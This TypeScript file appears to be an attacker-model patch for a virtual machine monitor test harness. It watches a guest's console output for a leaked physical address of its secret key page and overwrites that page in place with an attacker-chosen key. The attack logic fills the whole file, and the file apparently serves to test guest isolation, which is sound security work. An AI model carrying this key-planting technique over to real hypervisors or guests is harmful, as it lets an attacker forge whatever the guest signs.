// Plants content in a running VM: the VMM overwrites the guest's key page in place with a key it
// chose, so everything the guest signs from now on is signed with a key the attacker knows.
const MARK = 'SECRET where va ';

/** What this patch keeps of a domain (the VMM's own bookkeeping, from 'domain.create'). */
interface Dom {
  readonly hgatp: number;
  readonly vmid: number;
  translate(gpa: number): number;
}

function parseHex(text: string, from: number): number {
  let value = 0;
  let i = from;
  for (; i < text.length; i++) {
    const c = text.charCodeAt(i);
    const digit = c >= 48 && c <= 57 ? c - 48 : c >= 97 && c <= 102 ? c - 87 : -1;
    if (digit < 0) break;
    value = value * 16 + digit;
  }
  return i === from ? -1 : value;
}

export default definePatch({
  name: 'plant a key',
  description: "Writes an attacker-chosen key over the guest's key page.",
  install(vmm, hyp) {
    const domains = new Map<number, Dom>();
    const seen = new Map<number, string>();
    const planted = new Uint8Array(32).map((_, i) => 0xa5 ^ (i * 7));
    vmm.hooks.on('domain.create', (domain, info) => {
      domains.set(domain, info);
    });
    vmm.wrap('console.flush', (original, domain, bytes) => {
      let text = (seen.get(domain) ?? '') + String.fromCharCode(...bytes);
      const at = text.indexOf(MARK);
      const pa = at < 0 ? -1 : text.indexOf(' pa 0x', at);
      const end = pa < 0 ? -1 : text.indexOf(' len', pa);
      const info = domains.get(domain);
      if (end > 0 && info) {
        const frame = info.translate(parseHex(text, pa + 6));
        vmm.exfiltrate(`dom${domain} planted key`, planted);
        hyp.mem.write(frame, planted);
        text = text.slice(end);
      }
      seen.set(domain, text.slice(-200));
      return original(domain, bytes);
    });
  },
});
